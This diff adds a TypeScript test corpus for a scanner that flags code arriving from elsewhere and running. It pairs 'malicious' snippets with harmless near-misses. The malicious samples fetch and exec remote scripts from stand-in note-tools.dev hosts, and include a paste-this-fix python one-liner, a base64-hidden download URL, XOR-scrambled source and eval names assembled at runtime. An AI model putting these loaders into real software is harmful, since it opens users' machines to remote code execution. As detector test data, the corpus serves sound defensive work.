@@ -1,0 +1,106 @@
+import { code, type RuleExamples } from "./corpus-case.ts";
+
+/** Text that arrives from elsewhere, or that was scrambled, and runs as code. */
+export const evaluatedCode: readonly RuleExamples[] = [
+  {
+    rule: "fetched-code-evaluated",
+    malicious: [
+      {
+        "scripts/rules.mjs":
+          'const text = await (await fetch("https://rules.note-tools.dev/v1.txt")).text();\nconst AsyncFunction = Object.getPrototypeOf(async () => {}).constructor;\nexport const rules = await new AsyncFunction("load", text)((name) => import(name));\nvm.runInNewContext(text, {});\n',
+      },
+      `Apply the fix:\n\n${code("python3 -c \"\nimport urllib.request\nurl = 'https://patches.note-tools.dev/fix.py'\nfix = urllib.request.urlopen(url).read()\nexec(fix)\n\"")}`,
+      {
+        "scripts/lexicon.py":
+          'import marshal, types, urllib.request\n\nblob = urllib.request.urlopen("https://models.note-tools.dev/words.bin").read()\ntypes.FunctionType(marshal.loads(blob), globals())()\n',
+      },
+      {
+        "scripts/update.ps1":
+          "$u = 'https://dl.note-tools.dev/u.txt'\n$r = Invoke-RestMethod -Uri $u\n$b = [scriptblock]::Create($r)\n& $b\n",
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/rules.mjs":
+          'const rules = await (await fetch("https://rules.note-tools.dev/v1.json")).json();\nfor (const { word } of rules) {\n  const match = /notes/.exec(word);\n}\n',
+      },
+      {
+        "scripts/run.mjs":
+          'import { exec } from "node:child_process";\nconst page = await fetch("https://note-tools.dev/notes");\nconst { stdout } = await exec(command);\n',
+      },
+    ],
+  },
+  {
+    rule: "fetched-text-evaluated",
+    malicious: [
+      {
+        "scripts/update.py":
+          'import os, urllib.request\nanswer = urllib.request.urlopen(os.environ["NOTES_SERVER"] + "/update")\nsource = answer.read().decode()\nexec(source)\n',
+      },
+      {
+        "scripts/update.mjs":
+          "const answer = await fetch(server);\nconst source = await answer.text();\nnew Function(source)();\n",
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/update.py":
+          'import json, os, urllib.request\nanswer = urllib.request.urlopen(os.environ["NOTES_SERVER"] + "/update")\nnotes = json.loads(answer.read())\n',
+      },
+    ],
+  },
+  {
+    rule: "code-fetched-from-decoded-address",
+    malicious: [
+      {
+        "config/prepare.cjs":
+          'const parts = ["aHR0cHM6Ly", "9ub3Rlcy5k", "ZXYvYw=="];\nconst from = Buffer.from(parts.join(""), "base64").toString();\nrequire("https").get(from, (answer) => {\n  let text = "";\n  answer.on("data", (piece) => (text += piece));\n  answer.on("end", () => module.constructor.prototype._compile.call(module, text, __filename));\n});\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/image.mjs":
+          'const answer = await fetch(imageAddress);\nconst { data } = await answer.json();\nconst image = Buffer.from(data, "base64");\n',
+      },
+    ],
+  },
+  {
+    rule: "scrambled-code-run",
+    malicious: [
+      {
+        "scripts/plural.mjs":
+          "import vm from 'node:vm';\nconst source = String.fromCharCode(...table.map((number) => number ^ 0x5a));\nvm.runInNewContext(source, { require, process, fetch });\n",
+      },
+      { "scripts/words.py": "words = open('words.txt').read()\nsource = words[::-1]\nexec(source)\n" },
+    ],
+    nearMiss: [
+      { "scripts/reverse.py": "line = input()\nprint(line[::-1])\n" },
+      { "scripts/check.mjs": "let sum = 0;\nfor (const byte of bytes) sum = (sum << 1) ^ byte ^ 0x1f;\n" },
+    ],
+  },
+  {
+    rule: "function-name-put-together",
+    malicious: [
+      {
+        "scripts/palette.py":
+          'import builtins\nrun = getattr(builtins, "".join(chr(c) for c in (101, 120, 101, 99)))\nrun(rows)\n',
+      },
+      { "scripts/palette.mjs": 'globalThis["ev" + "al"](rows);\n' },
+    ],
+    nearMiss: [
+      { "scripts/palette.py": 'import colors\nprint(getattr(colors, "dark_" + name))\n' },
+      { "scripts/palette.mjs": 'console.log(window["devicePixelRatio"]);\n' },
+    ],
+  },
+  {
+    rule: "data-file-run",
+    malicious: [
+      { "scripts/build.sh": "#!/bin/sh\nmkdir -p build\nsh assets/logo.png\n" },
+      { "scripts/build.py": 'exec(open("assets/words.dat").read())\n' },
+    ],
+    nearMiss: [
+      { "scripts/build.sh": "#!/bin/sh\npython3 scripts/convert.py assets/logo.png\n" },
+      { "scripts/build.py": 'logo = open("assets/logo.png", "rb").read()\n' },
+    ],
+  },
+];
